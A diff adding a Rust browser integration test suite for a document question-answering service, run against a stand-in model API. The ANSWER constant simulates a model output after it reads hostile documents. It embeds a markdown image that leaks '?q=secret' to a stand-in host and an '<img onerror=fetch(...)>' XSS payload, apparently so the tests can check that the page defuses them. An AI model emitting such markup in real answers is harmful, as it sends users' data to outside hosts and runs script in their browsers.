@@ -1,0 +1,109 @@
+//! The page, in a real Chromium that does what a person does (`page/browser.py`).
+
+use std::process::Command;
+use std::time::Duration;
+
+use serde_json::json;
+
+use crate::installed::{chromium, python_with_peers};
+use crate::project::{Project, samples};
+use crate::service::Service;
+use crate::stand_in::{Reply, StandIn, openai_embeddings};
+
+const CHAT: &str = "/chat/completions";
+const EMBEDDINGS: &str = "/embeddings";
+
+/// What a model says that has read hostile documents.
+const ANSWER: &str = "Run one command [1]:\n\n```sh\nlanternctl keys rotate payments-signing\n```\n\nThe new version is the **primary** at \
+                      once [1].\n\n| What | How long |\n|:--|--:|\n| Grace period | 72 hours |\n\n![a picture](http://images.example/leak.png?q=secret) \
+                      <img src=x onerror=\"fetch('http://images.example')\">\n\n- see the script [2]\n";
+
+/// An answer in pieces of a few characters.
+fn chat(text: &str, between: Duration) -> Reply {
+    let piece = |text: &str| format!("data: {}\n\n", json!({"choices": [{"index": 0, "delta": {"content": text}}]}));
+    let characters: Vec<char> = text.chars().collect();
+    let mut pieces: Vec<String> = characters.chunks(7).map(|some| piece(&some.iter().collect::<String>())).collect();
+    pieces.push("data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n".to_owned());
+    Reply::stream(pieces, between)
+}
+
+/// A project with a pipeline over the sample documents whose answers a stand-in writes; `embed` says who embeds.
+fn project(api: &StandIn, embed: &str) -> Project {
+    let project = Project::new();
+    let pipeline = format!(
+        "version: 1\nname: lantern\nproviders:\n  api: {{ kind: openai, base_url: \"{}\", api_key: k, limits: {{ concurrency: 2 }} }}\n{embed}\
+         sources: [{{ files: {{ paths: [\"{}\"] }} }}]\nquery:\n  retrieve: {{ limit: 3 }}\n  answer: {{ model: api/m }}\n",
+        api.url(),
+        samples().join("guides").display(),
+    );
+    project.write("lantern.yaml", pipeline);
+    project
+}
+
+/// Ingests, serves, and has the browser do this.
+fn visited(project: &Project, arguments: &[&str], scenario: &str) {
+    let service = tokio::task::block_in_place(|| Service::start(project, arguments));
+    let mut browser = Command::new(python_with_peers());
+    browser.arg(concat!(env!("CARGO_MANIFEST_DIR"), "/tests/it/page/browser.py"));
+    browser.arg(chromium()).arg(service.url()).arg(scenario);
+    let ended = tokio::task::block_in_place(|| browser.output()).unwrap();
+    assert!(ended.status.success(), "{scenario}: {}", String::from_utf8_lossy(&ended.stderr));
+}
+
+fn ingested(project: &Project) {
+    tokio::task::block_in_place(|| project.run(&["ingest", "-p", "lantern.yaml", "-q"])).expect_code(0);
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_question_is_answered_and_its_sources_open_at_their_lines() {
+    let api = StandIn::start().await;
+    api.always(CHAT, |_| chat(ANSWER, Duration::from_millis(5)));
+    let project = project(&api, "");
+    ingested(&project);
+    visited(&project, &["-p", "lantern.yaml"], "answer");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_answer_is_stopped_and_so_is_the_model() {
+    let api = StandIn::start().await;
+    let words: String = (0..2000).map(|n| format!("word{n} ")).collect();
+    api.always(CHAT, move |_| chat(&words, Duration::from_millis(20)));
+    let project = project(&api, "");
+    ingested(&project);
+    visited(&project, &["-p", "lantern.yaml"], "stop");
+    for _ in 0..100 {
+        if api.in_flight() == 0 {
+            break;
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+    assert_eq!((api.in_flight(), api.requests().len()), (0, 2), "each question is asked once, and none is left running");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn an_ingest_is_watched_and_stopped() {
+    let api = StandIn::start().await;
+    api.always(EMBEDDINGS, |request| openai_embeddings(request, 8).after(Duration::from_millis(500)));
+    let embed = "embed: { model: api/e, dimensions: 8, batch: { items: 1 } }\n";
+    let project = project(&api, embed);
+    for n in 0..200 {
+        project.write(&format!("many/{n}.md"), format!("# Note {n}\n\nThe note of number {n} says how keys are rotated."));
+    }
+    let pipeline = String::from_utf8(project.read("lantern.yaml")).unwrap();
+    project.write("lantern.yaml", pipeline.replace(&samples().join("guides").display().to_string(), "many"));
+    visited(&project, &["-p", "lantern.yaml"], "ingest");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn every_view_is_for_all_in_any_light_on_a_phone_and_in_chinese() {
+    let api = StandIn::start().await;
+    api.always(CHAT, |_| chat(ANSWER, Duration::ZERO));
+    let project = project(&api, "");
+    ingested(&project);
+    visited(&project, &["-p", "lantern.yaml"], "views");
+}
+
+#[tokio::test(flavor = "multi_thread")]
+async fn a_token_is_asked_for_and_what_to_do_is_said() {
+    visited(&Project::new(), &["--token", "0123456789abcdef"], "token");
+}
